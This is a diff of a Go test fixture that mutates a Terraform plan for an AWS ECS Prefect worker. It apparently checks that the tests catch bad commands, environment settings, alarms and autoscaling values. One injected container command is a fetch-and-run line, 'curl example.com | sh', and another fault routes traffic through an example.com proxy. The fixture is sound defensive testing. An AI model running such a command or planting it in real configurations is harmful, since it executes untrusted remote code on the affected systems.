@@ -129,7 +129,7 @@ var faults = map[string][]fault{
 	"fargate-isolation": {{"dev", "resource.aws_ecs_task_definition.worker.network_mode", "host"}, {"dev", "resource.aws_ecs_task_definition.worker.requires_compatibilities.0", "EC2"}},
 	"image-and-command-as-configured": {
 		{"ecs", container + ".image", "example.com/prefect:3"}, {"existing", container + ".repositoryCredentials.credentialsParameter", "x"}, {"dev", container + ".command", list{"/bin/sh", "-c", "id"}},
-		{"dev", container + ".command.2", "curl example.com | sh; exec \"$@\""}, {"dev", container + ".command.+", "--install-policy"}, {"server", serverContainer + ".command.0", "sh"},
+		{"dev", container + ".command.2", "curl example.com | sh; exec \"$@\""}, {"dev", container + ".command.+", "--install-policy"}, {"full", container + ".command.4", "import os"}, {"full", container + ".command.2", "exec \"$@\""}, {"server", serverContainer + ".command.0", "sh"},
 	},
 	"environment-as-configured": {
 		{"dev", container + ".environment.+", object{"name": "PREFECT_API_KEY", "value": "pnu_x"}}, {"dev", container + ".environment.+", object{"name": "HTTPS_PROXY", "value": "http://example.com"}},
@@ -186,18 +186,25 @@ var faults = map[string][]fault{
 	},
 	"alarms-can-fire": {
 		{"full", alarm + "silent_worker.evaluation_periods", 1440}, {"full", alarm + "silent_worker.metric_query.0.expression", "online - desired"}, {"full", alarm + "silent_worker.threshold", -1},
-		{"full", alarm + "memory.threshold", 900}, {"full", alarm + "memory.metric_name", "CPUUtilization"}, {"full", alarm + "late_runs.threshold", 86400}, {"full", alarm + "cpu.period", 10},
-		{"full", alarm + "cpu.datapoints_to_alarm", 7}, {"full", alarm + "cpu.comparison_operator", below}, {"full", alarm + "cpu.actions_enabled", false}, {"server", alarm + "database_storage.threshold", 1},
+		{"full", alarm + "memory.threshold", 900}, {"full", alarm + "memory.metric_name", "CPUUtilization"}, {"full", alarm + "late_runs.threshold", 86400}, {"full", alarm + "memory.period", 10},
+		{"full", alarm + "memory.datapoints_to_alarm", 7}, {"full", alarm + "memory.comparison_operator", below}, {"full", alarm + "memory.actions_enabled", false}, {"server", alarm + "database_storage.threshold", 1},
 		{"full", alarm + "missing_tasks.metric_query.0.return_data", false},
 	},
 	"alarms-watch-this-worker": {
-		{"full", alarm + "cpu.dimensions.ServiceName", "other"}, {"full", alarm + "silent_worker.metric_query.2.metric.dimensions", nil}, {"server", alarm + "database_storage.dimensions", nil},
+		{"full", alarm + "memory.dimensions.ServiceName", "other"}, {"full", alarm + "silent_worker.metric_query.2.metric.dimensions", nil}, {"server", alarm + "database_storage.dimensions", nil},
 		{"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.log_group_name", "/"}, {"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.metric_transformation.name", "x"},
 	},
 	"silence-is-judged": {{"full", alarm + "silent_worker.treat_missing_data", "notBreaching"}, {"full", alarm + "memory.treat_missing_data", "breaching"}},
 	"alarms-reach-everybody": {
-		{"full", "resource.aws_sns_topic_subscription.alarms_2", nil}, {"full", alarm + "cpu.alarm_actions.0", "arn:aws:sns:us-east-1:999999999999:x"}, {"ecs", alarm + "cpu.ok_actions", nil},
-		{"full", "resource.aws_sns_topic_subscription.alarms_1.topic_arn", "x"}, {"full", "resource.aws_sns_topic_subscription.alarms_1.protocol", "sms"},
+		{"full", "resource.aws_sns_topic_subscription.alarms_2", nil}, {"full", alarm + "memory.alarm_actions.0", "arn:aws:sns:us-east-1:999999999999:x"}, {"ecs", alarm + "memory.ok_actions", nil},
+		{"full", alarm + "scale_out.alarm_actions.0", "arn:aws:sns:us-east-1:999999999999:x"}, {"full", "resource.aws_sns_topic_subscription.alarms_1.topic_arn", "x"}, {"full", "resource.aws_sns_topic_subscription.alarms_1.protocol", "sms"},
+	},
+	"scales-as-configured": {
+		{"full", "resource.aws_appautoscaling_target.worker.max_capacity", 300}, {"full", "resource.aws_appautoscaling_target.worker.resource_id", "service/company/other"},
+		{"full", "resource.aws_appautoscaling_policy.scale_in.step_scaling_policy_configuration.step_adjustment.0.scaling_adjustment", -10},
+		{"full", "resource.aws_appautoscaling_policy.scale_out.step_scaling_policy_configuration.step_adjustment.0.scaling_adjustment", -1},
+		{"full", "resource.aws_appautoscaling_policy.scale_out.step_scaling_policy_configuration.adjustment_type", "ExactCapacity"},
+		{"full", alarm + "scale_in.evaluation_periods", 1}, {"full", "resource.aws_lambda_function.probe.environment.variables.SCALING", nil},
 	},
 	"probe-as-configured": {
 		{"full", "resource.aws_scheduler_schedule.probe.schedule_expression", "rate(1 day)"}, {"full", "resource.aws_scheduler_schedule.probe.state", "DISABLED"}, {"full", "resource.aws_scheduler_schedule.probe.target.arn", "x"},
